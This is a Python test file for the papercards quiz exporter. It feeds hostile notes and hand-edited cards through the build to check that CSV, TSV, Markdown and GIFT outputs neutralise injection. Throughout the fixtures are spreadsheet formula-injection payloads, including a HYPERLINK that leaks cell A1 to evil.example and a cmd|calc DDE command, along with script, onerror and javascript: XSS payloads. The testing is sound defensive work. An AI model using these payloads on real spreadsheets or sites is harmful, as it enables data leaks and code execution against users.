"""Every quiz export is safe for what opens it.

CSV/TSV: no cell a spreadsheet would run as a formula (OWASP's CSV injection
advice: a leading ``'``, every CSV cell quoted). Markdown: rendered by a
CommonMark renderer with raw HTML on, no tag, link or image comes from the
notes. GIFT: no raw tag (Moodle shows GIFT text as HTML), entities never
decoded into one. The payloads go through the real pipeline: in the notes and
hand-added to ``cards/``, built, then ``papercards quiz``.
"""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import unicodedata
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from papercards.cli import main
from papercards.items.model import PaperInfo
from papercards.quiz.model import TRUE_FALSE, Question, Quiz
from papercards.quiz.render import gift, markdown, table

from conftest import ROOT, SHIPPED
from test_quiz_gift import parse as parse_gift

HOSTILE_NOTES = """\
# Hostile notes

## 1. =HYPERLINK("http://evil.example/?leak="&A1,"Click") <img src=x onerror=alert(1)> Formula Paper
=1+1 公式注入论文 <script>alert(2)</script>

### 关键字
* =HYPERLINK("http://evil.example","x") (超链接注入 Hyperlink Injection)
* +cmd|' /C calc'!A0 命令注入
* @SUM(A1:A9) 求和注入
* -3.5% 负百分比

### 主要内容
#### =cmd|' /C calc'!A0
* -2+3 是一个公式
* &lt;script&gt;alert(4)&lt;/script&gt; 被解码
* </script><script>alert(5)</script> 结束脚本

### 文章链接
* <a href="https://openreview.net/forum?id=Evil000001">ICLR链接</a>

### 一句话总结
@cmd 一个总结 [click](javascript:alert(6)) ![x](http://evil.example/pixel.png)
"""

# hand edits in cards/: text there is used as it is, not re-read from the notes
MANUAL_ITEMS = """\
- id: manual/html-img
  kind: term
  fields:
    term: <img src=x onerror=alert(7)> IMG
    chinese: 图片事件注入
  origin: manual
- id: manual/html-script
  kind: term
  fields:
    term: SCR </script><script>alert(8)</script>
    chinese: 脚本结束注入
  origin: manual
- id: manual/escaped
  kind: term
  fields:
    term: ESC &lt;script&gt;alert(9)&lt;/script&gt;
    chinese: 实体注入
  origin: manual
- id: manual/formula-cmd
  kind: term
  fields:
    term: CMD
    english: command injection
    chinese: "+cmd|' /C calc'!A0 命令注入"
  origin: manual
- id: manual/formula-sum
  kind: term
  fields:
    term: SUM
    english: sum injection
    chinese: "@SUM(A1:A9) 求和注入"
  origin: manual
- id: manual/formula-link
  kind: term
  fields:
    term: LINK
    english: hyperlink injection
    chinese: =HYPERLINK("http://evil.example","x") 超链接注入
  origin: manual
"""

FORMULA_START = frozenset("=+-@\t\r")
_QUOTED_ROW = re.compile(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*')


@pytest.fixture(scope="module")
def exports(tmp_path_factory) -> dict[str, str]:
    """{suffix: text} of version A of a quiz made from the hostile project by the CLI."""
    root = tmp_path_factory.mktemp("hostile") / "proj"
    (root / "source").mkdir(parents=True)
    shutil.copy(SHIPPED, root / "source" / SHIPPED.name)
    # every kind on, vocabulary too: as many payloads as possible reach a quiz cell
    config = (ROOT / "papercards.yaml").read_text(encoding="utf-8")
    config += "cards: {paper: true, sentence: true}\nglossary: {vocabulary: true}\n"
    (root / "papercards.yaml").write_text(config, encoding="utf-8")
    (root / "source" / "hostile.md").write_text(HOSTILE_NOTES, encoding="utf-8")
    runner = CliRunner()
    assert runner.invoke(main, ["build", "-C", str(root), "-q"]).exit_code == 0
    with (root / "cards" / "glossary.yaml").open("a", encoding="utf-8") as fh:
        fh.write(MANUAL_ITEMS)
    out = root / "out"
    # which terms a quiz asks about depends on its seed: seed 3 asks about the +cmd payload
    # term, so payloads start cells (since DPO, RLHF and PPO are known terms, seed 1 does not)
    result = runner.invoke(main, ["quiz", "-C", str(root), "--formats", "csv,tsv,md,gift",
                                  "--seed", "3", "--out", str(out), "-q"])
    assert result.exit_code == 0, result.output
    return {s: (out / f"quiz-A{s}").read_bytes().decode("utf-8") for s in (".csv", ".tsv", ".md", ".gift.txt")}


def hostile_quiz() -> Quiz:
    """Every place a renderer writes text, filled with a payload."""
    img, script, entity = "<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>", \
        "&lt;script&gt;alert(3)&lt;/script&gt;"
    qs = [
        Question(id="m1", type="mcq", prompt=f"=HYPERLINK(\"http://evil\") {img} [x](javascript:alert(4))?",
                 options=["+cmd|' /C calc'!A0", f"@SUM(1) {script}", " =1+1", "-3.5%"], correct=[0],
                 paper="evil"),
        Question(id="c2", type="cloze", prompt=f"\t=1+1 {entity} {{{{1}}}} ![p](http://evil.example/p.png)",
                 blanks=[["＝cmd", f"<b onmouseover=alert(5)>b</b> {entity}"]], paper="evil"),
        Question(id="p3", type="match", prompt="=match", instructions=f"-2+3 {img}",
                 pairs=[("=A1", f"SVG {entity} <svg onload=alert(6)>"), ("\r@x", "<http://evil.example>"),
                        ("+1", "`</code><script>alert(7)</script>`"), ("负百分比", "-3.5%")],
                 right_order=[2, 0, 3, 1]),
        Question(id="t4", type="tf", prompt=f"@tf {script} <iframe src=javascript:alert(8)>",
                 options=list(TRUE_FALSE), correct=[1], explanation=f"=false {entity} {img}", paper="evil"),
    ]
    for n, q in enumerate(qs, 1):
        q.number = n
    paper = PaperInfo(key="evil", title=f"=evil {img}", short=f"@short {entity} {img}")
    return Quiz(title=f"=title {img}", version="A", seed=1, direction="mixed", questions=qs,
                papers={"evil": paper})


def _starts_formula(cell: str) -> bool:
    first = cell.lstrip()[:1]
    return cell[:1] in FORMULA_START or bool(first) and unicodedata.normalize("NFKC", first)[0] in FORMULA_START


def _tsv_cells(text: str) -> list[list[str]]:
    body = "".join(line for line in io.StringIO(text) if not line.startswith("#"))
    return list(csv.reader(io.StringIO(body, newline=""), delimiter="\t"))


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ---------------------------------------------------------------- CSV / TSV

@pytest.mark.parametrize("source", ["pipeline", "every field"])
def test_no_cell_starts_a_formula(exports, source):
    texts = {"csv": exports[".csv"], "tsv": exports[".tsv"]} if source == "pipeline" else \
        {"csv": table.render_csv(hostile_quiz()), "tsv": table.render_tsv(hostile_quiz())}
    for fmt, text in texts.items():
        rows = _csv_cells(text) if fmt == "csv" else _tsv_cells(text)
        cells = [c for row in rows for c in row]
        assert rows and all(len(row) == 2 for row in rows), fmt
        assert not [c for c in cells if _starts_formula(c)], fmt
        neutralised = [c for c in cells if c.startswith("'") and _starts_formula(c[1:])]
        assert len(neutralised) >= 2, fmt           # the payloads did reach a cell's start
        assert any("HYPERLINK" in c for c in cells) and any(c.startswith("'+cmd") for c in cells)


def test_every_csv_cell_is_quoted(exports):
    lines = exports[".csv"].split("\r\n")
    assert lines[-1] == "" and all(_QUOTED_ROW.fullmatch(line) for line in lines[:-1])


def test_a_negative_number_is_text_too():
    """OWASP's rule has no exception for numbers: ``-3.5%`` becomes ``'-3.5%``, which a
    spreadsheet shows as the text -3.5% (every cell here is text)."""
    assert table.cell("-3.5%") == "'-3.5%" and table.cell("3.5%") == "3.5%"
    quiz = hostile_quiz()
    assert ["负百分比", "'-3.5%"] in _tsv_cells(table.render_tsv(quiz))
    assert ["负百分比", "'-3.5%"] in _csv_cells(table.render_csv(quiz))


def test_leading_space_or_full_width_sign_is_caught():
    for payload in (" =1+1", "\u3000=1+1", "＝1+1", "\t=1", "\r=1", "﹢1", "＠SUM(A1)"):
        assert table.cell(payload) == "'" + payload
    for fine in ("DPO", "a=b", "'=already text", "", "1+1"):
        assert table.cell(fine) == fine


# ---------------------------------------------------------------- Markdown

class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _rendered_tags(md: str) -> tuple[list[tuple[str, list]], str]:
    """Tags and visible text of ``md`` as CommonMark (raw HTML allowed) with GFM tables."""
    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(md)
    parser = _Tags()
    parser.feed(rendered)
    return parser.tags, rendered


STRUCTURE = {"h1", "h2", "p", "strong", "em", "ul", "ol", "li", "hr", "code", "s", "del",
             "table", "thead", "tbody", "tr", "th", "td"}


@pytest.mark.parametrize("source", ["pipeline", "every field"])
def test_markdown_renders_no_tag_from_the_notes(exports, source):
    md = exports[".md"] if source == "pipeline" else markdown.render(hostile_quiz())
    tags, rendered = _rendered_tags(md)
    assert {t for t, _ in tags} <= STRUCTURE, {t for t, _ in tags} - STRUCTURE
    assert not [a for _, attrs in tags for a in attrs]            # no href, src, on… of any kind
    assert "<script" not in rendered and "<img" not in rendered
    text = html.unescape(rendered)
    if source == "pipeline":           # payloads kept as text: the escaped script, the formula
        assert "<script>alert(4)</script>" in text or "<script>alert(9)</script>" in text
    else:
        assert "<script>alert(3)</script>" in text and "http://evil.example" in text
        assert "</code><script>alert(7)</script>" in text          # code span held its content


def test_markdown_escapes_keep_the_text():
    assert markdown.escape("a <b> & *c* [d](e) `f` $x$ ~~s~~ \\") == \
        r"a &lt;b&gt; &amp; \*c\* \[d\](e) \`f\` &#36;x&#36; &#126;&#126;s&#126;&#126; \\"
    tags, rendered = _rendered_tags(markdown.inline("**bold** and `co`de` and $\\beta$"))
    assert [t for t, _ in tags] == ["p", "strong", "code"] and "β" in rendered


# ---------------------------------------------------------------- GIFT

def _gift_texts(text: str) -> list[str]:
    out = []
    for q in parse_gift(text):
        out += [q.get("title") or "", q["text"], q["after"]]
        out += q.get("options", []) + q.get("answers", []) + [s for p in q.get("pairs", []) for s in p]
    return out


@pytest.mark.parametrize("source", ["pipeline", "every field"])
def test_gift_carries_no_raw_tag(exports, source):
    text = exports[".gift.txt"] if source == "pipeline" else gift.render(hostile_quiz())
    texts = _gift_texts(text)
    assert not [t for t in texts if "<" in t or ">" in t]          # every < > is an entity
    shown = html.unescape("\n".join(texts))                         # what Moodle displays
    if source == "pipeline":
        assert "<script>alert(4)</script>" in shown or "<script>alert(9)</script>" in shown
    else:
        assert "<script>alert(3)</script>" in shown


def test_gift_never_decodes_an_entity():
    q = Question(id="m", type="mcq", prompt="&lt;script&gt; R&D <b>x</b>", options=["a &amp; b", "b"],
                 correct=[0], number=1)
    parsed = parse_gift(gift.render(Quiz(title="t", version="A", seed=1, direction="mixed", questions=[q])))
    assert parsed[0]["text"] == "&lt;script&gt; R&amp;D x"
    assert parsed[0]["options"][0] == "a &amp; b"
